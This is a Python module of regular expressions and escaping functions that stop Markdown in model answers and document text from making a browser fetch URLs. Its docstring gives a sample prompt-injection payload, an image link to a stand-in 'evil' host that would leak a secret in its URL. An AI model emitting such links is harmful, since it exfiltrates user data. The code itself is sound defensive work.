"""Safe rendering: answers, snippets and document text never make the browser fetch anything.

A document or a model's answer can carry a prompt injection such as ``![x](http://evil/leak?secret)``: drawn
as Markdown, the browser would fetch that URL and leak whatever the model put in it. So model text keeps its
harmless formatting (emphasis, lists, code) but every image becomes text (``[image: x — URL]``), every link
shows its target as text, raw HTML is escaped, and bare URLs are not turned into links. Document text is
escaped entirely: it is shown as written, never as markup.
"""

from __future__ import annotations

import re

# Everything Markdown (and Streamlit's extensions: LaTeX with $, :color[...] directives) could turn into markup.
_MD_SPECIAL = re.compile(r"([\\`*_\[\]<>|~$#!:{}()+\-=.])")
_CODE = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]+`)", re.S)
_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^>\s]*)>", re.I)
# Characters that make a link, an image, HTML, LaTeX or a directive in prose (emphasis and lists stay).
_PROSE_SPECIAL = re.compile(r"([\\\[\]<>$!&])")
_SCHEME = re.compile(r"\b((?:https?|ftp|mailto|file|data|javascript)):", re.I)
_WWW = re.compile(r"\b(www)\.", re.I)
_DIRECTIVE = re.compile(r":([a-z-]+)\[", re.I)


def escape_markdown(text: str) -> str:
    """Document text shown literally: no markup, no LaTeX, no links or images of any kind."""
    return _SCHEME.sub(r"\1\\:", _WWW.sub(r"\1\\.", _MD_SPECIAL.sub(r"\\\1", text)))


def _neutralise_prose(text: str) -> str:
    text = _IMAGE.sub(lambda m: f"\x00image: {m.group(1) or '?'} — {m.group(2)}\x01", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if m.group(2) else m.group(1), text)
    text = _AUTOLINK.sub(r"\1", text)
    text = _PROSE_SPECIAL.sub(r"\\\1", text)
    text = _DIRECTIVE.sub(r"\\:\1[", text)
    text = _SCHEME.sub(r"\1\\:", text)
    text = _WWW.sub(r"\1\\.", text)
    return text.replace("\x00", "\\[").replace("\x01", "\\]")


def safe_markdown(text: str) -> str:
    """A model's answer as Markdown that cannot fetch: images → ``[image: alt — URL]``, links → ``text (URL)``,
    HTML and LaTeX escaped, bare URLs left as text. Code spans and blocks are kept as they are (Markdown draws
    nothing inside them)."""
    out: list[str] = []
    pos = 0
    for match in _CODE.finditer(text):
        out.append(_neutralise_prose(text[pos : match.start()]))
        out.append(match.group(0))
        pos = match.end()
    out.append(_neutralise_prose(text[pos:]))
    return "".join(out)
